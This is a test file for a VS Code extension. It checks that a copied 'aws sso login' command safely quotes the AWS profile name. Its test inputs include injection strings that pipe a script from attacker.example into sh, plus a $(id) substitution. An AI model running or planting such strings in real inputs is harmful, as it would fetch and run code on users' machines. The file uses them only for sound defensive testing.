/**
 * Copy SSO Login Command in the real host (issue 13, finding 1.7): the profile name is pasted into a
 * terminal, so the copied text must be the quoted command (src/model/shellQuote.ts) and a name that
 * cannot be quoted safely copies nothing. The profile comes from AWS_PROFILE here because the
 * profile setting refuses such names on its own.
 */
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { ExtensionApi } from '../../src/extension';
import { activateExtension, resetSettings } from './helpers';

describe('Copy SSO Login Command quotes the profile name', () => {
  let api: ExtensionApi;
  const saved = process.env.AWS_PROFILE;

  before(async () => {
    api = await activateExtension();
    await resetSettings('profile');
    await api.settled();
  });

  afterEach(() => {
    if (saved === undefined) delete process.env.AWS_PROFILE;
    else process.env.AWS_PROFILE = saved;
  });

  it('copies a name with a space, or with shell syntax, inside single quotes', async () => {
    assert.equal(api.session.settings.profile, undefined, 'no profile setting: AWS_PROFILE decides');
    process.env.AWS_PROFILE = 'my team';
    await vscode.commands.executeCommand('sagemakerImages.copySsoLoginCommand');
    assert.equal(await vscode.env.clipboard.readText(), "aws sso login --profile 'my team'");
    process.env.AWS_PROFILE = 'dev; curl https://attacker.example/p | sh #';
    await vscode.commands.executeCommand('sagemakerImages.copySsoLoginCommand');
    assert.equal(await vscode.env.clipboard.readText(), "aws sso login --profile 'dev; curl https://attacker.example/p | sh #'");
  });

  it('copies nothing for a name no quoting makes safe in bash, zsh and PowerShell', async () => {
    for (const name of ["it's", 'dev\ncurl https://attacker.example/p | sh', 'a$(id)b']) {
      await vscode.env.clipboard.writeText('untouched');
      process.env.AWS_PROFILE = name;
      await vscode.commands.executeCommand('sagemakerImages.copySsoLoginCommand');
      assert.equal(await vscode.env.clipboard.readText(), 'untouched', JSON.stringify(name));
    }
  });
});
